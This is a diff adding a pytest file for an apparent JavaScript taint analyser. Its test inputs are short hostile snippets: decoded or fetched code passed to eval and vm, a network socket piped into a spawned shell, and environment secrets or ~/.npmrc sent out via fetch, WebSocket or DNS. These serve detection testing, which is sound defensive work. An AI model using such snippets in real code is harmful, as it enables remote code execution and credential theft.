@@ -1,0 +1,119 @@
+"""Flows: data that reaches a sink, and what is no flow into it."""
+
+import pytest
+
+from pratique.analysis.facts import Taint
+from tests.analysis.languages.javascript.reading import C, FlatFlow, N, P, W, facts, flows
+
+LONG = "a" * 200
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        (f"eval('{LONG}')", (C, "eval", {Taint.LITERAL})),
+        ("eval(atob(x))", (C, "eval", {Taint.DECODED})),
+        ("(0, eval)(atob(x))", (C, "eval", {Taint.DECODED})),
+        ("window['ev' + 'al'](atob(x))", (C, "eval", {Taint.DECODED})),
+        ("eval.call(null, atob(x))", (C, "eval", {Taint.DECODED})),
+        ("new Function('a', atob(x))", (C, "Function", {Taint.DECODED})),
+        ("[].constructor.constructor(atob(x))()", (C, "Function", {Taint.DECODED})),
+        ("setTimeout(atob(x), 5)", (C, "setTimeout", {Taint.DECODED})),
+        ("module._compile(atob(x), '')", (C, "module._compile", {Taint.DECODED})),
+        ("new module.constructor()._compile(atob(x), '')", (C, "module._compile", {Taint.DECODED})),
+        ("require('vm').runInThisContext(atob(x))", (C, "vm.runInThisContext", {Taint.DECODED})),
+        ("new (require('vm').Script)(atob(x)).runInThisContext()", (C, "vm.Script", {Taint.DECODED})),
+        ("eval(xs.map(x => String.fromCharCode(x ^ 5)).join(''))", (C, "eval", {Taint.COMPUTED})),
+        ("eval(require('fs').readFileSync(__dirname + '/p.dat', 'utf8'))", (C, "eval", {Taint.FILE})),
+        (
+            "require('vm').runInThisContext(require('./data.json').a)",
+            (C, "vm.runInThisContext", {Taint.FILE}),
+        ),
+        ("fetch(u).then(r => r.text()).then(t => eval(t))", (C, "eval", {Taint.NETWORK})),
+        ("fetch(u).then(r => r.text()).then(eval)", (C, "eval", {Taint.NETWORK})),
+        ("new Worker(atob(x), {eval: true})", (C, "Worker", {Taint.DECODED})),
+        ("new Worker(URL.createObjectURL(new Blob([atob(x)])))", (C, "Worker", {Taint.DECODED})),
+        ("require('child_process').exec(atob(x))", (P, "child_process.exec", {Taint.DECODED})),
+        (
+            "require('child_process').spawn('sh', ['-c', atob(x)])",
+            (P, "child_process.spawn", {Taint.DECODED}),
+        ),
+        ("require('child_process').spawn(process.env.TOOL)", (P, "child_process.spawn", {Taint.ENVIRONMENT})),
+        (
+            "const s = require('net').connect(1, h); s.pipe(require('child_process').spawn('sh').stdin)",
+            (P, "child_process.ChildProcess.stdin.write", {Taint.NETWORK}),
+        ),
+        ("require('fs').writeFileSync(p, Buffer.from(x, 'hex'))", (W, "fs.writeFileSync", {Taint.DECODED})),
+        (
+            "require('https').get(u, r => r.pipe(require('fs').createWriteStream(p)))",
+            (W, "fs.WriteStream.write", {Taint.NETWORK}),
+        ),
+        (
+            "const q = require('https').request(o); q.write(JSON.stringify(process.env))",
+            (N, "http.ClientRequest.write", {Taint.ENVIRONMENT}),
+        ),
+        ("fetch(u, {method: 'POST', body: process.env.SECRET})", (N, "fetch", {Taint.ENVIRONMENT})),
+        ("fetch('https://a.invalid/?' + process.env.SECRET)", (N, "fetch", {Taint.ENVIRONMENT})),
+        ("require('axios').post(u, {h: require('os').hostname()})", (N, "axios.post", {Taint.ENVIRONMENT})),
+        (
+            "const fs = require('fs'); fetch(u, {body: fs.readFileSync(home + '/.npmrc')})",
+            (N, "fetch", {Taint.FILE}),
+        ),
+        (
+            "require('dns').lookup(process.env.USER + '.a.b.invalid', f)",
+            (N, "dns.lookup", {Taint.ENVIRONMENT}),
+        ),
+        (
+            "const s = new WebSocket(u); s.send(process.env.SECRET)",
+            (N, "WebSocket.send", {Taint.ENVIRONMENT}),
+        ),
+        ("fetch(atob(x))", (N, "fetch", {Taint.DECODED})),
+    ],
+)
+def test_data_is_followed_into_each_kind_of_sink(source: str, expected: FlatFlow) -> None:
+    assert expected in flows(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "eval('1 + 1')",
+        "eval(x)",
+        "new Function('a', 'return ' + x)",
+        "setTimeout(() => atob(x), 5)",
+        "setTimeout(done, process.env.DELAY)",
+        "require('child_process').spawn('sh', {env: process.env})",
+        "require('child_process').exec('ls', {env: {...process.env}})",
+        "require('fs').writeFileSync(p, JSON.stringify(process.env))",
+        "fetch(process.env.API_URL)",
+        "fetch(`${process.env.API_URL}/path`)",
+        "fetch(u, {timeout: process.env.TIMEOUT, agent: process.env.PROXY})",
+        "require('https').request({host: process.env.HOST1, port: process.env.PORT})",
+        "fetch(u, {body: require('fs').readFileSync(__dirname + '/own.json')})",
+        "fetch(u).then(r => fetch(r.url))",
+        "/x/.exec(atob(y))",
+        "x[y](z)",
+        "process.env.DEBUG && eval(x)",
+    ],
+)
+def test_what_is_no_flow(source: str) -> None:
+    assert [] == flows(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "x[atob(y)](z)",
+        "require(atob(y))",
+        "import(Buffer.from(y, 'hex').toString())",
+        "function e(r) { return Buffer.from(r, 'hex').toString() } x[e(n[3])](z)",
+    ],
+)
+def test_a_call_by_a_decoded_name_is_a_flow(source: str) -> None:
+    assert (C, "computed-call", {Taint.DECODED}) in flows(source)
+
+
+def test_the_origin_is_the_line_of_the_first_source() -> None:
+    [flow] = facts("const a = await fetch(u);\nconst b = a + '';\neval(b)").flows
+
+    assert (3, 1) == (flow.line, flow.origin_line)
